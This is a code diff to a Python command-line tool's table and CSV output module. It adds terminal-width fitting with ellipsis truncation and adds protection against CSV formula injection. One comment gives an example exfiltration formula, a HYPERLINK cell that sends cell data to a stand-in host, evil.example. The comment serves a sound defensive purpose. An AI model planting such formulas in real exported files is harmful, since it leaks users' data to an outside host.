@@ -9,13 +9,13 @@ imported lazily, only for a table on a terminal.
 from __future__ import annotations
 
 import json
+import os
+import shutil
 from collections.abc import Iterable, Mapping, Sequence
-from typing import TYPE_CHECKING, TextIO
+from typing import TextIO
 
-from paiws.core.masking import NOT_AVAILABLE, strip_terminal_controls
-
-if TYPE_CHECKING:
-    from rich.console import Console
+from paiws.core.column_fit import Column, fit
+from paiws.core.masking import ELLIPSIS, NOT_AVAILABLE, strip_terminal_controls
 
 APP = "paiws"
 _RICH_ROW_LIMIT = 1000  # beyond this, even a terminal gets the fast plain table
@@ -58,12 +58,20 @@ def is_tty(stream: TextIO) -> bool:
         return False
 
 
-def console_for(stream: TextIO) -> Console:
-    """A Rich console for a terminal only: pipes and files get `_plain_table`, never colour
-    (not even with FORCE_COLOR set)."""
-    from rich.console import Console
-
-    return Console(file=stream, force_terminal=True, highlight=False, markup=False, emoji=False)
+def table_width(stream: TextIO, *, wide: bool = False) -> int | None:
+    """How many cells a table row may take: ``COLUMNS`` when set, else the terminal's width;
+    None (no limit) for ``--wide`` and for a pipe or file without ``COLUMNS``."""
+    if wide:
+        return None
+    columns = os.environ.get("COLUMNS", "").strip()
+    if columns.isdigit() and int(columns) > 0:
+        return int(columns)
+    if not is_tty(stream):
+        return None
+    try:
+        return os.get_terminal_size(stream.fileno()).columns
+    except (OSError, ValueError, AttributeError):
+        return shutil.get_terminal_size().columns
 
 
 def print_table(
@@ -72,71 +80,123 @@ def print_table(
     rows: Iterable[Sequence[str]],
     *,
     styles: Mapping[str, Mapping[str, str]] | None = None,
+    whole: Sequence[str] = (),
     droppable: Sequence[str] = (),
+    wide: bool = False,
 ) -> None:
-    """A table of API text printed literally. On a terminal: a Rich table of `Text` cells
-    (never parsed as markup), status coloured; when the terminal is too narrow for every
-    column, the columns in `droppable` go first (in that order) instead of folding every cell,
-    and a note says what was hidden. In a pipe or file: the same layout drawn by `_plain_table`
-    (no colour, nothing dropped or cut), because Rich needs ~50 s for 10,000 rows."""
+    """A table of API text printed literally, one line per row, never wrapped.
+
+    Its width is `table_width`: columns in ``whole`` are never truncated, the others are cut
+    with an ellipsis, and when that is not enough the ``droppable`` columns are hidden in that
+    order (a note says which). On a terminal the header is bold and statuses coloured
+    (``styles``); a pipe or a file gets plain text.
+    """
     from rich.cells import cell_len
 
     data = [[clean(value) for value in row] for row in rows]
-    widths = [max([cell_len(c), *(cell_len(r[i]) for r in data)]) for i, c in enumerate(columns)]
-    console = console_for(stream) if is_tty(stream) else None
-    shown = list(range(len(columns)))
-    hidden: list[str] = []
-    for name in droppable:
-        if console is None or sum(widths[i] + 3 for i in shown) <= console.width:
-            break
-        if name in columns:
-            shown.remove(columns.index(name))
-            hidden.append(name)
-    if console is None or len(data) > _RICH_ROW_LIMIT:
-        plain_table(
+    naturals = [max([cell_len(c), *(cell_len(r[i]) for r in data)]) for i, c in enumerate(columns)]
+    order = {name: rank for rank, name in enumerate(droppable)}
+    layout = fit(
+        [
+            Column(name, natural, whole=name in whole, drop_order=order.get(name))
+            for name, natural in zip(columns, naturals, strict=True)
+        ],
+        table_width(stream, wide=wide),
+    )
+    shown = [i for i, width in enumerate(layout) if width is not None]
+    widths = [layout[i] or 0 for i in shown]
+    header = [columns[i] for i in shown]
+    body = [[r[i] for i in shown] for r in data]
+    painted = {
+        columns.index(name): paint for name, paint in (styles or {}).items() if name in columns
+    }
+    if is_tty(stream) and len(data) <= _RICH_ROW_LIMIT:
+        _styled_table(
             stream,
-            [columns[i] for i in shown],
-            [[r[i] for i in shown] for r in data],
-            [widths[i] for i in shown],
+            header,
+            body,
+            widths,
+            {shown.index(i): p for i, p in painted.items() if i in shown},
         )
     else:
-        from rich import box
-        from rich.table import Table
-        from rich.text import Text
-
-        table = Table(box=box.SIMPLE_HEAD, header_style="bold", show_edge=False, pad_edge=False)
-        for i in shown:
-            table.add_column(columns[i], overflow="fold")
-        for row in data:
-            table.add_row(
-                *(
-                    Text(row[i], style=(styles or {}).get(columns[i], {}).get(row[i], ""))
-                    for i in shown
-                )
-            )
-        console.print(table)
+        plain_table(stream, header, body, widths)
+    hidden = [columns[i] for i, width in enumerate(layout) if width is None]
     if hidden:
         stream.write(
-            f"(Hidden to fit the terminal: {', '.join(hidden)}; --format json shows every field.)\n"
+            f"(Hidden to fit the width: {', '.join(hidden)}; --wide or --format json shows "
+            "every field.)\n"
         )
+
+
+def fit_cell(text: str, width: int) -> str:
+    """``text`` in at most ``width`` cells, cut with an ellipsis (wide characters count two)."""
+    from rich.cells import cell_len, set_cell_size
+
+    if cell_len(text) <= width:
+        return text
+    return set_cell_size(text, max(width - 1, 0)) + ELLIPSIS if width > 0 else ""
 
 
 def plain_table(
     stream: TextIO, columns: Sequence[str], rows: Sequence[Sequence[str]], widths: Sequence[int]
 ) -> None:
     """Rich's SIMPLE_HEAD layout (header, rule, rows; three blanks between columns) drawn
-    directly, without trailing blanks. Wide (CJK) characters count as two cells, as in Rich."""
+    directly, without trailing blanks (Rich needs ~50 s for 10,000 rows)."""
     from rich.cells import cell_len
 
     def line(cells: Sequence[str]) -> str:
-        padded = (c + " " * (w - cell_len(c)) for c, w in zip(cells, widths, strict=True))
+        fitted = (fit_cell(c, w) for c, w in zip(cells, widths, strict=True))
+        padded = (c + " " * (w - cell_len(c)) for c, w in zip(fitted, widths, strict=True))
         return "   ".join(padded).rstrip() + "\n"
 
-    encoding = (getattr(stream, "encoding", None) or "utf-8").lower().replace("-", "")
-    rule = "─" if encoding.startswith("utf") else "-"  # as Rich falls back to ASCII boxes
     stream.write(line(columns))
-    stream.write(rule * (sum(widths) + 3 * (len(widths) - 1)) + "\n")
+    stream.write(_rule(stream) * (sum(widths) + 3 * (len(widths) - 1)) + "\n")
     stream.writelines(line(row) for row in rows)
+
+
+def _rule(stream: TextIO) -> str:
+    encoding = (getattr(stream, "encoding", None) or "utf-8").lower().replace("-", "")
+    return "─" if encoding.startswith("utf") else "-"  # as Rich falls back to ASCII boxes
+
+
+def _styled_table(
+    stream: TextIO,
+    columns: Sequence[str],
+    rows: Sequence[Sequence[str]],
+    widths: Sequence[int],
+    paints: Mapping[int, Mapping[str, str]],
+) -> None:
+    """The same layout on a terminal: a bold header and coloured cells, API text literal."""
+    from rich.cells import cell_len
+    from rich.console import Console
+    from rich.text import Text
+
+    console = Console(
+        file=stream,
+        force_terminal=True,
+        highlight=False,
+        markup=False,
+        emoji=False,
+        width=max(sum(widths) + 3 * (len(widths) - 1), 1),
+        soft_wrap=True,
+    )
+
+    def line(cells: Sequence[str], style: str = "") -> Text:
+        text = Text(style=style, no_wrap=True)
+        for index, (cell, width) in enumerate(zip(cells, widths, strict=True)):
+            fitted = fit_cell(cell, width)
+            if index:
+                text.append("   ")
+            text.append(fitted, style=paints.get(index, {}).get(cell, ""))
+            if index < len(widths) - 1:
+                text.append(" " * (width - cell_len(fitted)))
+        text.rstrip()
+        return text
+
+    console.print(line(columns, "bold"))
+    console.print(Text(_rule(stream) * (sum(widths) + 3 * (len(widths) - 1)), style="dim"))
+    for row in rows:
+        console.print(line(row))
 
 
 def print_fields(stream: TextIO, fields: Sequence[tuple[str, object]]) -> None:
@@ -145,9 +205,16 @@ def print_fields(stream: TextIO, fields: Sequence[tuple[str, object]]) -> None:
         stream.write(f"{key + ':':<{width}} {display(value)}\n")
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection), e.g. a
+# description =HYPERLINK("https://evil.example/?"&A2,"details"): such cells get a leading '.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def csv_value(value: object) -> str:
     if isinstance(value, bool):
         return "true" if value else "false"
     if isinstance(value, list | tuple):
-        return ";".join(clean(v) for v in value)
-    return "" if value is None else clean(value)
+        text = ";".join(clean(v) for v in value)
+    else:
+        text = "" if value is None else clean(value)
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
